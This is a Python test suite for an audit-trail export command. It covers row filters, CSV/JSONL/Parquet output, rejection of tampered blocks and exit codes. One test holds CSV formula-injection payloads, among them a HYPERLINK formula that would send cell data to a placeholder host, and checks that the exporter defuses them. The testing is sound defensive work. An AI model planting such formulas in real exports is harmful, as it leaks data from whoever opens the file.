"""`riskseal export`: rows of verified blocks only, filters, the three formats read back,
a failed block stops the export (or is marked with --include-unverified), exit codes."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import sys
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from riskseal.audit.export import ExportFilter, ExportRow, export_rows
from riskseal.audit.export_formats import (
    BASE_COLUMNS,
    CsvWriter,
    JsonlWriter,
    ParquetWriter,
    event_columns,
    flat_row,
)
from riskseal.audit.report import VerifyOptions
from riskseal.audit.sources import LocalTrailSource, ObjectVersion
from riskseal.audit.verify import Verifier
from riskseal.block import Block, ChainId, SealedRecord, checkpoint_key
from riskseal.cli import main
from riskseal.contract import Endpoint, Location
from riskseal.keys import PublicKeys
from riskseal.sealer.batch import PendingRecord
from riskseal.sealer.chain import ChainWriter, recover_head
from riskseal.sealer.checkpoint import signed_checkpoint
from tests.unit.audit.trail import (
    ACTIONS,
    CLUSTER,
    CODEC,
    DECISIONS,
    FRESH,
    NOW_MS,
    ORIGIN,
    PREFIX,
    REQUESTS,
    Trail,
    decision,
    request,
)


def _export(trail: Trail, *extra: str) -> int:
    return main(["export", "--local", str(trail.root), "--trust", str(trail.vkey_file()),
                 *FRESH, *extra])  # fmt: skip


def _jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def _flip_record(trail: Trail, topic: str, seq: int) -> None:
    path = trail.root / trail.key(topic, seq)
    block = Block.from_bytes(path.read_bytes())
    forged = bytearray(block.record_bytes[0])
    forged[-10] ^= 0x01
    path.write_bytes(
        dataclasses.replace(block, record_bytes=(bytes(forged), *block.record_bytes[1:])).to_bytes()
    )


def _seal_raw(trail: Trail, topic: str, records: list[tuple[bytes | None, bytes | None]]) -> None:
    """Seal ``(key, value)`` records as one block on partition 1 of ``topic``, checkpointed."""
    chain = ChainId(CLUSTER, topic, 1)
    head = recover_head(trail.store, PREFIX, chain, PublicKeys([trail.signer.verifier]))
    writer = ChainWriter(head, trail.store, trail.signer, PREFIX, ORIGIN, clock_ms=lambda: NOW_MS)
    pending = []
    for offset, (key, value) in enumerate(records):
        record = SealedRecord(topic, 1, offset, NOW_MS + offset, 1, key, value)
        pending.append(PendingRecord(offset, NOW_MS, record.canonical_bytes(), False))
    writer.append(writer.build(pending))
    note = signed_checkpoint(
        ORIGIN, chain, 1, writer.head.tree.root(), trail.signer, time_ms=NOW_MS
    )
    trail.store.create(checkpoint_key(PREFIX, chain, NOW_MS), note)
    trail.write()


# --- rows and filters ------------------------------------------------------------------------
def test_every_sealed_event_is_exported_with_its_coordinates(
    trail: Trail, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "all.jsonl"
    assert _export(trail, "--output", str(out)) == 0
    rows = _jsonl(out)
    assert len(rows) == 18
    assert "OK: 18 rows exported" in capsys.readouterr().err
    first = rows[0]
    assert first["chain"] == f"{CLUSTER}/{REQUESTS}/0"
    assert (first["block_seq"], first["topic"], first["partition"], first["offset"]) == (
        0, REQUESTS, 0, 0,
    )  # fmt: skip
    assert first["kafka_timestamp"] == NOW_MS and first["kafka_key"] == "k"
    assert first["verified"] is True and first["finding"] is None
    assert first["event_type"] == "AccessRequest"
    assert first["event"] == json.loads(json.dumps(request(0).to_record()))
    decisions = [r["event"] for r in rows if r["topic"] == DECISIONS]
    assert decisions == [json.loads(json.dumps(decision(n).to_record())) for n in range(9)]


def test_user_filter_matches_actor_uid_and_user_id(trail: Trail, tmp_path: Path) -> None:
    out = tmp_path / "u1.jsonl"
    assert _export(trail, "--user", "u1", "--output", str(out)) == 0
    rows = _jsonl(out)
    assert sorted((r["event_type"], r["event"]["event_id"]) for r in rows) == sorted(
        [("AccessRequest", request(n).event_id) for n in (1, 4, 7)]
        + [("Decision", decision(n).event_id) for n in (1, 4, 7)]
    )


def test_time_filter_is_on_event_time_inclusive(trail: Trail, tmp_path: Path) -> None:
    out = tmp_path / "window.jsonl"
    start, end = NOW_MS + 3, NOW_MS + 5
    window = ["--from", _iso(start), "--to", _iso(end)]
    assert _export(trail, *window, "--topic", REQUESTS, "--output", str(out)) == 0
    assert [r["event"]["time"] for r in _jsonl(out)] == [start, start + 1, end]


def test_topic_filter_reads_only_those_chains(trail: Trail, tmp_path: Path) -> None:
    out = tmp_path / "d.jsonl"
    _flip_record(trail, REQUESTS, 1)  # not read, so not in the way
    assert _export(trail, "--topic", DECISIONS, "--output", str(out)) == 0
    assert {r["topic"] for r in _jsonl(out)} == {DECISIONS}


def test_undecodable_records_are_exported_never_dropped(trail: Trail, tmp_path: Path) -> None:
    _seal_raw(trail, ACTIONS, [(b"u1", b"not an event"), (None, None), (b"u2", b"\xc3\x01x")])
    out = tmp_path / "u1.jsonl"
    assert _export(trail, "--user", "u1", "--topic", ACTIONS, "--output", str(out)) == 0
    rows = _jsonl(out)
    # u1's garbage (by its Kafka key) and the record with no key; u2's garbage is u2's.
    assert [(r["offset"], r["kafka_key"]) for r in rows] == [(0, "u1"), (1, None)]
    assert rows[0]["event"] is None and rows[0]["event_type"] is None
    assert "not an Avro single-object encoded event" in rows[0]["decode_error"]
    assert rows[0]["raw_value"] == "base64:bm90IGFuIGV2ZW50"
    assert rows[1]["decode_error"] == "record has no value"


# --- formats, read back ----------------------------------------------------------------------
def test_csv_is_flat_with_dotted_columns_and_json_for_arrays_and_maps(
    trail: Trail, tmp_path: Path
) -> None:
    out = tmp_path / "all.csv"
    assert _export(trail, "--format", "csv", "--output", str(out)) == 0
    with out.open(newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == 18
    assert list(rows[0]) == [name for name, _ in (*BASE_COLUMNS, *event_columns())]
    first = rows[0]
    assert first["actor.uid"] == "u0" and first["resource.uid"] == "d0"
    assert first["verified"] == "true" and first["finding"] == ""
    assert json.loads(first["actor.roles"]) == [] and json.loads(first["attributes"]) == {}
    assert first["src_endpoint.location.country"] == ""  # a null record: empty cells
    last = rows[-1]
    assert last["event_type"] == "Decision" and last["verdict"] == "ALLOW"
    assert json.loads(last["reasons"]) == []
    assert last["time"] == str(NOW_MS + 8)


def test_parquet_has_typed_columns(trail: Trail, tmp_path: Path) -> None:
    out = tmp_path / "all.parquet"
    assert _export(trail, "--format", "parquet", "--output", str(out)) == 0
    table = pq.read_table(out)
    assert table.num_rows == 18
    assert str(table.schema.field("time").type) == "int64"
    assert str(table.schema.field("verified").type) == "bool"
    rows = table.to_pylist()
    assert rows[0]["actor.uid"] == "u0" and rows[0]["offset"] == 0
    assert rows[-1]["user_risk"] == 0 and rows[-1]["actor.uid"] is None


def test_parquet_is_written_in_row_groups() -> None:
    stream = io.BytesIO()
    writer = ParquetWriter(stream, row_group=4)
    for n in range(10):
        writer.write(_row(request(n).to_record(), offset=n))
    writer.close()
    stream.seek(0)
    parquet = pq.ParquetFile(stream)
    assert parquet.metadata.num_row_groups == 3
    assert parquet.read().column("offset").to_pylist() == list(range(10))


def test_nested_optional_record_flattens_into_dotted_columns() -> None:
    located = dataclasses.replace(
        request(1), src_endpoint=Endpoint("10.0.0.1", Location("DE", "Berlin", 52.5, 13.4))
    )
    flat = flat_row(_row(located.to_record()))
    assert flat["src_endpoint.ip"] == "10.0.0.1"
    assert (flat["src_endpoint.location.city"], flat["src_endpoint.location.lat"]) == (
        "Berlin", 52.5,
    )  # fmt: skip
    stream = io.StringIO()
    CsvWriter(stream).write(_row(located.to_record()))
    assert "Berlin" in stream.getvalue()


@given(
    uid=st.text(min_size=1, max_size=20),
    attributes=st.dictionaries(st.text(max_size=10), st.text(max_size=10), max_size=4),
    roles=st.lists(st.text(max_size=10), max_size=3),
)
def test_flat_rows_fit_the_declared_columns(
    uid: str, attributes: dict[str, str], roles: list[str]
) -> None:
    event = dataclasses.replace(
        request(2),
        actor=dataclasses.replace(request(2).actor, uid=uid, roles=tuple(roles)),
        attributes=attributes,
    )
    flat = flat_row(_row(event.to_record()))
    columns = {name for name, _ in (*BASE_COLUMNS, *event_columns())}
    assert set(flat) <= columns
    assert flat["actor.uid"] == uid
    assert json.loads(flat["attributes"]) == attributes
    assert json.loads(flat["actor.roles"]) == roles


def test_user_and_time_filter_semantics() -> None:
    wanted = ExportFilter(user="u1", from_ms=10, to_ms=20)
    assert wanted.keeps("u1", 10) and wanted.keeps("u1", 20)
    assert not wanted.keeps("u1", 9) and not wanted.keeps("u1", 21)
    assert not wanted.keeps("u2", 15)
    assert wanted.keeps(None, None)  # unknown user and time: shown, never dropped


# --- failed blocks ---------------------------------------------------------------------------
def test_failed_block_stops_the_export_and_no_file_is_left(
    trail: Trail, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _flip_record(trail, REQUESTS, 1)
    out = tmp_path / "all.jsonl"
    assert _export(trail, "--output", str(out)) == 1
    err = capsys.readouterr().err
    assert f"FAIL: records_root_mismatch: {trail.key(REQUESTS, 1)}" in err
    assert "was not created" in err
    assert not out.exists()
    assert not (tmp_path / "all.jsonl.partial").exists()


def test_failed_block_on_stdout_marks_the_output_incomplete(
    trail: Trail, capsys: pytest.CaptureFixture[str]
) -> None:
    _flip_record(trail, REQUESTS, 1)
    assert _export(trail) == 1
    captured = capsys.readouterr()
    rows = [json.loads(line) for line in captured.out.splitlines()]
    assert [r["block_seq"] for r in rows] == [0, 0, 0]  # only the block before the failed one
    assert "the 3 row(s) written before the failed block are INCOMPLETE" in captured.err


def test_truncated_chain_stops_the_export_before_any_of_its_rows(
    trail: Trail, capsys: pytest.CaptureFixture[str]
) -> None:
    (trail.root / trail.key(REQUESTS, 2)).unlink()  # the newest block, vouched for by a checkpoint
    assert _export(trail) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "FAIL: tail_truncated" in captured.err


def test_include_unverified_marks_the_failed_block(
    trail: Trail, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _flip_record(trail, REQUESTS, 1)
    out = tmp_path / "all.jsonl"
    assert _export(trail, "--include-unverified", "--output", str(out)) == 1
    rows = _jsonl(out)
    assert len(rows) == 18
    marked = [r for r in rows if not r["verified"]]
    assert [(r["topic"], r["block_seq"]) for r in marked] == [(REQUESTS, 1)] * 3
    assert marked[0]["finding"].startswith("records_root_mismatch: ")
    assert "3 of them from blocks that FAILED verification" in capsys.readouterr().err


def test_stray_object_does_not_stop_the_export(
    trail: Trail, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (trail.root / PREFIX / "notes.txt").write_text("hello")
    out = tmp_path / "all.jsonl"
    assert _export(trail, "--output", str(out)) == 0
    assert len(_jsonl(out)) == 18
    assert "1 finding(s) about objects outside this export" in capsys.readouterr().err


def test_export_streams_rows_before_reading_later_blocks(trail: Trail) -> None:
    source = _CountingSource(trail.root)
    options = VerifyOptions(
        PREFIX, ORIGIN, (REQUESTS, ACTIONS, DECISIONS), max_checkpoint_age_s=1e12,
        event_checks=False,
    )  # fmt: skip
    rows = export_rows(Verifier(source, options), ExportFilter())
    next(rows)
    blocks_read = [key for key in source.read_keys if "/blocks/" in key]
    assert blocks_read == [trail.key(REQUESTS, 0)]


def _first_row(trail: Trail, **event: Any) -> ExportRow:
    """The first exported row of ``trail``, its event's top-level fields replaced."""
    options = VerifyOptions(
        PREFIX, ORIGIN, (REQUESTS, ACTIONS, DECISIONS), max_checkpoint_age_s=1e12,
        event_checks=False,
    )  # fmt: skip
    row = next(export_rows(Verifier(LocalTrailSource(trail.root), options), ExportFilter()))
    assert row.event is not None
    return dataclasses.replace(row, event={**row.event, **event})


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://x/?"&A2)', "+1", "-2+3", "@SUM(A1)"])
def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(
    trail: Trail, formula: str
) -> None:
    row = _first_row(trail, trace_id=formula)
    out = io.StringIO(newline="")
    writer = CsvWriter(out)
    writer.write(row)
    out.seek(0)
    [written] = list(csv.DictReader(out))
    assert written["trace_id"] == "'" + formula
    assert written["time"] == str(NOW_MS)  # numbers are numbers, never quoted


def test_jsonl_stays_strict_json_when_a_number_is_not_finite(trail: Trail) -> None:
    row = _first_row(trail, src_endpoint={"ip": "10.0.0.1", "location": {
        "country": "DE", "city": None, "lat": float("nan"), "lon": float("-inf")}})  # fmt: skip
    out = io.StringIO()
    JsonlWriter(out).write(row)

    def refuse(constant: str) -> None:
        raise AssertionError(f"not strict JSON: {constant}")

    line = json.loads(out.getvalue(), parse_constant=refuse)
    location = line["event"]["src_endpoint"]["location"]
    assert (location["lat"], location["lon"]) == ("NaN", "-Infinity")


# --- exit codes 2 ----------------------------------------------------------------------------
def test_parquet_to_stdout_is_a_usage_error(
    trail: Trail, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _export(trail, "--format", "parquet") == 2
    assert "give --output FILE" in capsys.readouterr().err


def test_parquet_without_pyarrow_tells_how_to_install_it(
    trail: Trail,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    assert _export(trail, "--format", "parquet", "--output", str(tmp_path / "x.parquet")) == 2
    assert "pip install 'riskseal[parquet]'" in capsys.readouterr().err


def test_unreadable_source_is_exit_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--local", str(tmp_path / "nowhere")]) == 2
    assert "is not a directory" in capsys.readouterr().err


def test_output_in_a_missing_folder_is_exit_2_naming_it(
    trail: Trail, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "missing" / "out.jsonl"
    assert _export(trail, "--output", str(target)) == 2
    assert f"cannot write --output {target}" in capsys.readouterr().err


def test_block_number_as_a_time_is_a_usage_error(
    trail: Trail, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _export(trail, "--from", "12") == 2
    assert "event times" in capsys.readouterr().err


# --- helpers ---------------------------------------------------------------------------------
class _CountingSource(LocalTrailSource):
    def __init__(self, root: Path) -> None:
        super().__init__(root)
        self.read_keys: list[str] = []

    def read(self, key: str, version_id: str | None = None) -> bytes:
        self.read_keys.append(key)
        return super().read(key, version_id)

    def versions(self, prefix: str) -> list[ObjectVersion]:
        return super().versions(prefix)


def _row(event: dict[str, Any], offset: int = 0) -> ExportRow:
    return ExportRow(
        chain=f"{CLUSTER}/{REQUESTS}/0", block_seq=0, topic=REQUESTS, partition=0,
        offset=offset, kafka_timestamp=NOW_MS, kafka_key="k", event_type="AccessRequest",
        event=CODEC.decode(CODEC.encode("AccessRequest", event)).record,  # type: ignore[arg-type]
    )  # fmt: skip


def _iso(ms: int) -> str:
    from datetime import UTC, datetime

    return datetime.fromtimestamp(ms / 1000, UTC).isoformat(timespec="milliseconds")
